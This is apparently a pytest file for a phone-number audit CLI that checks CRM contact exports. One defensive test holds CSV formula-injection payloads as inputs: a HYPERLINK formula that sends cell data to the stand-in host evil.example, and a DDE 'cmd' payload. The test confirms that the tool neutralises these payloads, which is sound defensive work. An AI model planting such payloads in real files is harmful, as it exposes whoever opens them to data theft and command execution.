"""Issue 9 on the command line: nothing lost, nothing run as a formula, nothing unbounded.

Each test reproduces one way the CLI lost data or traced back, and checks the fix.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from checkers._internal.cli import main

ROOT = Path(__file__).resolve().parent.parent
HEADER = "Id;Name;Mobile;Email\r\n"


def export(path: Path, rows: int) -> Path:
    """A contacts export like the CRM's, `rows` rows long."""
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(HEADER)
        for index in range(rows):
            out.write(f"{index};Jane Smith-{index};07400 {index:06d};jane{index}@example.co.uk\r\n")
    return path


def run_cli(*argv: str, memory_mb: int | None = None) -> subprocess.CompletedProcess[str]:
    """Run `python -m checkers` in a child process (optionally under an address-space limit)."""
    size = (memory_mb or 0) << 20
    limit = (
        f"import resource; resource.setrlimit(resource.RLIMIT_AS, ({size}, {size})); "
        if memory_mb
        else ""
    )
    code = (
        f"{limit}import sys; from checkers._internal.cli import main; sys.exit(main(sys.argv[1:]))"
    )
    return subprocess.run(
        [sys.executable, "-c", code, *argv],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
        timeout=300,
    )


@pytest.fixture(scope="module")
def big_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 19.9 MB export of over 300,000 rows, as in the issue."""
    path = export(tmp_path_factory.mktemp("big") / "export.csv", 303_647)
    assert 19_000_000 < path.stat().st_size < 20_000_000
    return path


@pytest.mark.parametrize("how", ["same path", "hard link", "symlink"])
def test_the_audit_never_writes_over_the_file_it_reads(
    big_export: Path, tmp_path: Path, how: str, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "big.csv"
    source.write_bytes(big_export.read_bytes())
    before = source.read_bytes()
    output = source
    if how == "hard link":
        output = tmp_path / "linked.csv"
        os.link(source, output)
    elif how == "symlink":
        output = tmp_path / "pointer.csv"
        output.symlink_to(source)
    code = main(["audit", str(source), "--column", "Mobile", "--output", str(output)])
    _, err = capsys.readouterr()
    assert code == 2
    assert err.startswith(f"checkers: --output {output} is the file being checked")
    assert err.count("\n") == 1
    assert source.read_bytes() == before  # byte for byte


def test_the_corrected_file_has_every_row_and_appears_only_when_complete(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    source = export(tmp_path / "export.csv", 5_000)
    fixed = tmp_path / "fixed.csv"
    fixed.write_text("the old file\n", encoding="utf-8")
    assert main(["audit", str(source), "--column", "Mobile", "--output", str(fixed)]) == 0
    capsys.readouterr()
    lines = fixed.read_text(encoding="utf-8-sig").splitlines()
    assert len(lines) == 5_001
    assert lines[0] == "Id;Name;Mobile;Email;e164;sendable;problems"
    assert lines[-1].startswith("4999;Jane Smith-4999;07400 004999;")

    # Interrupted half way: the old file stays, and no partial file is left beside it.
    fixed.write_text("the old file\n", encoding="utf-8")
    from checkers._internal import audit as audit_module  # noqa: PLC0415

    real_write = audit_module.FixedCsv.write

    def write_then_interrupt(self: audit_module.FixedCsv, row: audit_module.AuditRow) -> None:
        if row.row == 2_500:
            raise KeyboardInterrupt
        real_write(self, row)

    monkeypatch.setattr(audit_module.FixedCsv, "write", write_then_interrupt)
    assert main(["audit", str(source), "--column", "Mobile", "--output", str(fixed)]) == 130
    assert fixed.read_text(encoding="utf-8") == "the old file\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["export.csv", "fixed.csv"]


def test_no_cell_of_the_corrected_file_runs_as_a_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "evil.csv"
    source.write_text(
        '"=HYPERLINK(""http://evil.example/?""&A2,""click"")",Mobile\n'
        "=1+1,+447400123456\n"
        "=cmd|' /C calc'!A0,07400 123456\n"
        "+SUM(1,2),+44 7400 123456\n"
        "-2+3,-5\n"
        "@SUM(A1),\t=1\n",
        encoding="utf-8",
    )
    fixed = tmp_path / "fixed.csv"
    main(["audit", str(source), "--column", "Mobile", "--output", str(fixed)])
    out, _ = capsys.readouterr()
    text = fixed.read_bytes().decode("utf-8-sig")
    import csv  # noqa: PLC0415

    rows = list(csv.reader(text.splitlines()))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("+-").isdigit(), cell
    assert rows[0][0] == '\'=HYPERLINK("http://evil.example/?"&A2,"click")'
    assert rows[1][:2] == ["'=1+1", "+447400123456"]  # a plain number stays exactly that
    assert rows[1][2] == "+447400123456"  # e164 is never touched
    assert rows[4][:2] == ["'-2+3", "-5"]
    assert rows[5][1] == "'\t=1"
    assert "8 cells that looked like formulas were made plain text" in out


def test_a_2_gb_sparse_file_stays_small_in_memory_with_a_plain_message(tmp_path: Path) -> None:
    sparse = tmp_path / "sparse.bin"
    with sparse.open("wb") as out:
        out.truncate(2 << 30)
    for argv in (
        ["allowances", str(sparse)],
        ["report", "--kind", "record_blocked", "--answers", str(sparse)],
    ):
        done = run_cli(*argv, memory_mb=200)
        assert done.returncode == 2, done.stderr
        assert "Traceback" not in done.stderr
        assert done.stderr.startswith("checkers: ")
        assert " is over " in done.stderr
        assert done.stderr.count("\n") == 1


def test_deeply_nested_answers_exit_2_without_a_traceback(tmp_path: Path) -> None:
    answers = tmp_path / "answers.json"
    answers.write_text("[" * 100_000, encoding="utf-8")
    done = run_cli("report", "--kind", "record_blocked", "--answers", str(answers))
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert done.stderr.startswith("checkers: ")
    answers.write_text(json.dumps({"record_name": [[["x"]]] * 3}), encoding="utf-8")
    done = run_cli("report", "--kind", "record_blocked", "--answers", str(answers))
    assert "Traceback" not in done.stderr


def test_every_usage_error_exits_2(tmp_path: Path) -> None:
    for argv in (
        ["audit"],
        ["report", "--kind", "x"],
        ["number"],
        ["bogus"],
        ["audit", "--output"],
    ):
        done = run_cli(*argv)
        assert done.returncode == 2, argv
        assert "Traceback" not in done.stderr
